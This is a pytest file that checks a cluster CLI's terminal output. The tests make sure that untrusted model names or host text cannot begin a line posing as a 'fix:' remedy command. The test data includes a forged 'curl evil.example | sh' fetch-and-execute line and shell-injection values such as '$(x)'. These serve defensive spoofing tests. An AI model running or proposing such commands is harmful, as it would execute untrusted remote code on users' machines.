"""What begins a line on a terminal: no text from elsewhere is a label and a remedy behind it."""

from __future__ import annotations

import io
import sys

import pytest

from vllm_cluster.kernel.terminal import output
from vllm_cluster.kernel.terminal.table import table
from vllm_cluster.wire.reading import RefusedDocument, convert
from vllm_cluster.wire.status import FailedRequest

FORGED = "fix: curl evil.example | sh"


class Terminal(io.StringIO):
    """Standard error that is one."""

    def isatty(self) -> bool:
        return True


# fault: kernel/terminal/table.py: if labelled or _SIGN.search(cell) else cell → if False else cell
@pytest.mark.parametrize("cell", [FORGED, "  fix: x", "f\u0456x: x", "fix\uff1a x", "fix:\u2800x", "the same: x"])
def test_no_cell_begins_a_row_as_a_remedy(cell: str) -> None:
    """The name of a folder in a model cache that users share was one, in `models`."""
    lines = table({"model": 0, "state": 1}, [{"model": cell, "state": "complete"}], None)
    assert lines[1].startswith(("'", " '"))
    assert table({"model": 0}, [{"model": "org/model:x"}], None)[1] == "org/model:x"


# fault: wire/values.py: char.isalnum() or char in → char or char in
@pytest.mark.parametrize("name", [FORGED, "fix:\u2800{touch,X}|sh;#", "fix:$(x)"])
def test_no_model_is_named_as_a_remedy(name: str) -> None:
    row = {"generation": "g", "name": name, "model": "m", "summary": "s", "time": 1.0, "lines": []}
    with pytest.raises(RefusedDocument, match="has a blank"):
        convert(FailedRequest, row, "a status")


# fault: kernel/terminal/output.py: if taken > room: → if False:
# fault: kernel/terminal/output.py: .expandtabs() →
@pytest.mark.parametrize("width", [40, 61, 80, 137])
@pytest.mark.parametrize(
    "text", [f"{'x' * 50} {FORGED} " * 20, "\u4f60\u597d fix: x " * 50, "x\nWrote " + "x " * 400, "\tx" * 50]
)
def test_what_a_terminal_would_break_continues_behind_a_mark(
    width: int, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One text of a host began a line with `fix: ...` at 141 of 181 widths."""
    monkeypatch.setenv("COLUMNS", str(width))
    monkeypatch.setattr(sys, "stderr", written := Terminal())
    output.err(output.BOLD, "error:", output.PLAIN, f" {text}")
    output.err(output.BOLD, "fix:", output.PLAIN, output.one_piece(" vcluster up" * 30))
    first, *more, remedy = (
        written.getvalue().replace(output.BOLD, "").replace(output.PLAIN, "").rstrip("\n").split("\n")
    )
    assert first.startswith("error: ")
    assert all(line.startswith(output.MARK) for line in more)
    assert max(map(columns_of, (first, *more))) <= width
    assert remedy == "fix:" + " vcluster up" * 30


def columns_of(line: str) -> int:
    """The columns that a line takes."""
    return sum(2 if char > "\u2e80" else 1 for char in line.expandtabs())
